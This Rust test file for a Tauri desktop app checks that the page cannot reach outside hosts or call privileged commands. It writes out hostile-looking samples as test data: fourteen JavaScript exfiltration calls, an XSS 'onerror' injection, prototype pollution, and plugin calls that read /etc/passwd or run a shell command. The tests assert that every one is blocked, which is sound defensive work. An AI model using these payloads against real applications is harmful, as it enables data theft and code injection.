//! The fence around the page: taken over, it gets no way out and nothing beyond the two doors.

use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{Value, json};
use thirtyfour::Key;
use tokio::time::sleep;

use crate::office::{Office, PASSPHRASE};
use crate::person::Person;
use crate::stage::{Opening, Window};

/// A door on this machine that keeps what is said to it.
struct Listener {
    address: String,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Listener {
    fn start() -> Self {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("a free port");
        let address = listener.local_addr().expect("its address").to_string();
        let heard = Arc::<Mutex<Vec<String>>>::default();
        let notes = Arc::clone(&heard);
        std::thread::spawn(move || {
            for knock in listener.incoming().flatten() {
                let mut line = String::new();
                drop(knock.set_read_timeout(Some(Duration::from_millis(100))));
                // Who knocks and says nothing has got out too.
                drop(BufReader::new(knock).read_line(&mut line));
                notes.lock().expect("nobody panics here").push(line);
            }
        });
        Self { address, heard }
    }

    /// What it has heard, once everybody has had time to get here.
    async fn heard(&self) -> Vec<String> {
        sleep(Duration::from_secs(1)).await;
        self.heard.lock().expect("nobody panics here").clone()
    }
}

/// Everything a hostile script may try; each line is the body of an asynchronous function.
const WAYS_OUT: [&str; 14] = [
    "await fetch(`http://${values[0]}/fetch`)",
    "await fetch(`http://${values[0]}/quiet`, { mode: 'no-cors', method: 'POST', body: 'x' })",
    "const x = new XMLHttpRequest(); x.open('GET', `http://${values[0]}/xhr`); x.send()",
    "new WebSocket(`ws://${values[0]}/socket`)",
    "new EventSource(`http://${values[0]}/events`)",
    "navigator.sendBeacon(`http://${values[0]}/beacon`, 'x')",
    "new Image().src = `http://${values[0]}/image`",
    "const s = document.createElement('script'); s.src = `http://${values[0]}/script`;
     document.head.append(s)",
    "const l = document.createElement('link'); l.rel = 'stylesheet';
     l.href = `http://${values[0]}/style`; document.head.append(l)",
    "const l = document.createElement('link'); l.rel = 'prefetch';
     l.href = `http://${values[0]}/prefetch`; document.head.append(l)",
    "const f = document.createElement('iframe'); f.src = `http://${values[0]}/frame`;
     document.body.append(f)",
    "const f = document.createElement('form'); f.action = `http://${values[0]}/form`;
     f.method = 'post'; document.body.append(f); f.submit()",
    "open(`http://${values[0]}/window`)",
    "location.href = `http://${values[0]}/away`",
];

/// Tries every way out of the page as it stands now.
async fn tries_to_get_out(window: &Window, listener: &Listener, page: &str) {
    let here = window.run("return location.pathname", &[]).await;
    let before = window.read("h1").await;
    for way in WAYS_OUT {
        window.run_slowly(way, &[json!(listener.address)]).await;
    }
    assert_eq!(listener.heard().await, [""; 0], "it got out of {page}");
    assert_eq!(window.run("return location.pathname", &[]).await, here, "{page}");
    assert_eq!(window.read("h1").await, before, "{page}");
}

#[tokio::test(flavor = "multi_thread")]
async fn no_page_reaches_anybody() {
    let listener = Listener::start();
    let (bare, office) = (Office::bare(), Office::ready());
    let window = Window::open(Opening { asks: true, ..Opening::of(&bare) }).await;
    window.says(&["Set up this desk"]).await;
    tries_to_get_out(&window, &listener, "set-up").await;
    window.close().await;

    let window = Window::open(Opening { asks: true, ..Opening::of(&office) }).await;
    window.says(&["The ledger is locked"]).await;
    tries_to_get_out(&window, &listener, "the locked page").await;
    let mut person = Person::at(&window, 7);
    person.types("Passphrase", PASSPHRASE).await;
    person.key(Key::Enter).await;
    window.see("[role=alert][data-code=no_service]").await;
    tries_to_get_out(&window, &listener, "the bench").await;
    for (key, page) in [(Key::F2, "People"), (Key::F10, "History")] {
        person.key(key).await;
        window.reads("h1", page).await;
        tries_to_get_out(&window, &listener, page).await;
    }
    person.clicks("Doctor").await;
    window.reads("h1", "Doctor").await;
    tries_to_get_out(&window, &listener, "the doctor").await;
    person.chord('n').await;
    window.see("[role=dialog]").await;
    tries_to_get_out(&window, &listener, "a dialog").await;

    // The listener would have noticed.
    let mut knock = TcpStream::connect(&listener.address).expect("the listener listens");
    knock.write_all(b"GET /control\r\n").expect("it is told something");
    assert_eq!(listener.heard().await, ["GET /control\r\n"]);
    window.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn text_never_becomes_code_in_the_page() {
    let office = Office::ready();
    let window = Window::open(Opening::of(&office)).await;
    for evil in [
        "return eval('1 + 1')",
        "return new Function('return 2')()",
        "return import('data:text/javascript,export default 2')",
    ] {
        let got = window.run_slowly(evil, &[]).await;
        assert!(got.get("thrown").is_some(), "{evil}: {got}");
    }
    let inline = "const it = document.createElement('script');
        it.textContent = 'window.ran = true';
        document.body.append(it);
        const frame = document.createElement('div');
        frame.innerHTML = '<img src=nothing onerror=\"window.ran = true\">';
        document.body.append(frame);
        await new Promise((done) => setTimeout(done, 300));
        return window.ran ?? false";
    assert_eq!(window.run_slowly(inline, &[]).await, false);
    let pollute = "Object.prototype.ran = true; return ({}).ran ?? false";
    let polluted = window.run_slowly(pollute, &[]).await;
    assert_ne!(polluted, true);
    window.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_act_that_the_desk_does_not_know_gets_a_report() {
    let office = Office::ready();
    let window = Window::open(Opening::of(&office)).await;
    for ask in [json!({ "do": "give_me_the_seeds" }), json!({}), json!([]), json!("fobs")] {
        let got = window.invoke("call", json!({ "ask": ask })).await;
        let report = &got["thrown"];
        assert_eq!(report["code"], "usage", "{ask}: {got}");
        for key in ["severity", "what", "now"] {
            assert!(report[key].as_str().is_some_and(|text| !text.is_empty()), "{ask}: {got}");
        }
        assert_eq!(report["left"], Value::Null);
    }
    window.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_of_tauris_own_is_open_to_the_page() {
    let office = Office::ready();
    let window = Window::open(Opening::of(&office)).await;
    let tries = [
        ("plugin:event|listen", json!({ "event": "x", "target": { "kind": "Any" }, "handler": 1 })),
        ("plugin:event|emit", json!({ "event": "x", "payload": null })),
        ("plugin:window|close", json!({ "label": "desk" })),
        ("plugin:window|set_title", json!({ "label": "desk", "value": "x" })),
        ("plugin:webview|create_webview_window", json!({ "options": { "label": "x" } })),
        ("plugin:webview|internal_toggle_devtools", json!({})),
        ("plugin:path|resolve_directory", json!({ "directory": 1 })),
        ("plugin:app|version", json!({})),
        ("plugin:image|from_path", json!({ "path": "/etc/passwd" })),
        ("plugin:fs|read_file", json!({ "path": "/etc/passwd" })),
        ("plugin:shell|execute", json!({ "program": "id" })),
    ];
    for (command, words) in tries {
        let got = window.invoke(command, words).await;
        let why = got["thrown"].as_str().unwrap_or_default();
        assert!(why.contains("not allowed") || why.contains("not found"), "{command}: {got}");
    }
    window.close().await;
}
